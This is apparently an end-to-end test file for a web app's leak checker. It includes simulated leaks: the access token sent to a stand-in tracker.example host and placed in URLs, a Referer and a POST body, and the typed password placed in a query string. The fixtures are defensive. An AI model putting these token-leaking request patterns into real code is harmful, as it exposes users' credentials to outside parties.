import type { Page } from 'playwright-core';
import { beforeAll, expect, test } from 'vitest';
import { signIn } from './harness/acts.ts';
import type { Login } from './harness/installation.ts';
import { sharedStage } from './harness/stage.ts';
import { expectNoLeaks } from './harness/visitor.ts';

const stage = sharedStage();
let owner: Login;

beforeAll(async () => {
  owner = stage.artel.logins[0]!;
});

/** Opens a visitor for whom every other server of the world is faked. */
async function visitorOfTheWorld(options: { allowed?: readonly string[]; as?: Login } = {}) {
  const visitor = await stage.visit(options);
  await visitor.context.route(
    ({ origin }) => origin !== stage.artel.url,
    (route) => route.fulfill({ contentType: 'text/html', body: 'elsewhere' }),
  );
  return visitor;
}

/** Opens the start page and gives the access token that it works with. */
async function getToken(page: Page): Promise<string> {
  const called = page.waitForRequest((request) => request.headers()['authorization'] !== undefined);
  await page.goto('/');
  return ((await called).headers()['authorization'] ?? '').replace('Bearer ', '');
}

test('a visitor who signs in, looks around and leaves calls no other origin and leaks no secret', async () => {
  const { page, collectLeaks, foreign } = await stage.visit();
  await page.goto('/auth');
  await signIn(page, owner);
  await page.goto('/profile');
  await page.getByRole('heading', { level: 1 }).waitFor();
  expect(foreign).toEqual([]);
  expect(collectLeaks()).toEqual([]);
});

test('the check of every journey finds a request to another origin', async () => {
  const { page, collectLeaks } = await visitorOfTheWorld();
  await page.goto('https://tracker.example/pixel');
  expect(expectNoLeaks).toThrow(/asked of another origin: https:\/\/tracker\.example\/pixel/);
  expect(collectLeaks()).toEqual([]);
});

test('an origin that a journey is about may be requested, but receives no secret', async () => {
  const { page, collectLeaks } = await visitorOfTheWorld({ allowed: ['https://tracker.example'], as: owner });
  const token = await getToken(page);
  await page.goto('https://tracker.example/pixel');
  expect(collectLeaks()).toEqual([]);
  await page.goto(`https://tracker.example/pixel?url=${encodeURIComponent(`/?auth=${token}`)}`);
  expect(expectNoLeaks).toThrow(/a secret stands in the address https:\/\/tracker\.example/);
});

test('the check of every journey finds a token in an address, in a Referer and in data sent to a collector', async () => {
  const { page, collectLeaks } = await stage.visit({ as: owner });
  const token = await getToken(page);
  const leak = async (
    init: RequestInit & { readonly url: string; readonly body?: string },
    finding: RegExp,
  ) => {
    expect(collectLeaks()).toEqual([]);
    await page.evaluate(({ url, ...rest }) => fetch(url, rest).then(() => undefined), init);
    expect(expectNoLeaks).toThrow(finding);
  };
  await leak({ url: `/assets/logo?token=${token}` }, /a secret stands in the address/);
  await leak({ url: `/api/v2/profile?auth=${token}` }, /a secret stands in the address/);
  await leak(
    { url: '/api/health', referrer: `/?auth=${token}`, referrerPolicy: 'unsafe-url' },
    /a secret stands in the Referer/,
  );
  await leak(
    { url: '/api/v1/view', method: 'POST', body: JSON.stringify({ address: `/auth/signup/${token}` }) },
    /a secret is told to .*\/api\/v1\/view/,
  );
});

test('the password that was typed is a secret as well, and so is a link that was opened', async () => {
  const { page, collectLeaks } = await stage.visit();
  await page.goto('/auth');
  await signIn(page, owner);
  await page.evaluate((password) => fetch(`/assets/x?p=${encodeURIComponent(password)}`), owner.password);
  expect(collectLeaks()).toHaveLength(1);
  const hash = 'd3b07384d113edec49eaa6238ad5ff00d3b07384d113';
  await page.goto(`/auth/signup/${hash}`);
  expect(collectLeaks()).toEqual([]);
  await page.evaluate((published) => fetch('/api/v1/view', { method: 'POST', body: published }), hash);
  expect(collectLeaks()).toHaveLength(1);
});
